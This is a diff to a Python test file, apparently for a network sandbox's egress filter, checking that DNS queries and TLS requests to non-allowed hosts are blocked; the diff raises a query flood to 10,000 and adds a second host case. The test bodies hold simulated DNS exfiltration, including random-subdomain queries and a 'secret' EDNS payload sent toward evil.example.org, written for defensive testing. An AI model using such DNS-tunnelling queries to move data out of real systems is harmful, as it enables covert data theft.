@@ -118,7 +118,7 @@ class Dns(lab.Lab):
             told = self.inside(caller, FAST + "rules: [{hosts: [good.example.com]}]", """
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53)); s.settimeout(5)
 answered = 0
-for n in range(5000):
+for n in range(10_000):
     s.send(query(f"{os.urandom(20).hex()}.evil.example.org")); answered += s.recv(512)[3] & 15 == 0
 tell(answered)
 option = struct.pack(">HH", 12, 400) + b"secret" + bytes(394)  # EDNS: padding, and a cookie
@@ -127,7 +127,7 @@ tell([ask_dns(query("secret.evil.example.org", kind), server) for kind in (1, 28
 tell([ask_dns(query("secret.evil.example.org", 1, more=edns, counts=(1, 0, 0, 1)), tcp=tcp) for tcp in (False, True)])
 tell([ask_dns(query("secret.evil.example.org", kind)) for kind in (2, 5, 6, 10, 12, 15, 16, 33, 64, 65, 99, 255, 257)])
 """, options=("--timeout", "60s"))
-            self.assertEqual(told, [5000, [[0, 1]] * 4, [[0, 1]] * 2, [[0, 0]] * 13], self.told)
+            self.assertEqual(told, [10_000, [[0, 1]] * 4, [[0, 1]] * 2, [[0, 0]] * 13], self.told)
             self.assert_no_query()
 
     def test_what_is_denied_was_never_asked_for(self):
@@ -354,10 +354,11 @@ tell([states(tls("good.example.com", ask("GET " + path, "good.example.com", last
 
     def test_a_server_that_cannot_be_believed_is_sent_nothing(self):
         for caller in self.each_caller():
-            told = self.inside(caller, "rules: [{hosts: [self.example.com], ports: [444], tls: inspect}]", """
-tell(states(tls("self.example.com", ask("GET /secret", "self.example.com:444", last), port=444)))
+            told = self.inside(caller, "rules: [{hosts: [self.example.com, half.example.com], ports: [444, 445], tls: inspect}]", """
+for name, port in (("self", 444), ("half", 445)):
+    tell(states(tls(name + ".example.com", ask("GET /secret", f"{name}.example.com:{port}", last), port=port)))
 """)
-            self.assertEqual((told, self.received("self")), ([[502]], b""), self.told)
+            self.assertEqual((told, self.received("self"), self.received("half")), ([[502], [502]], b"", b""), self.told)
 
 
 if __name__ == "__main__":
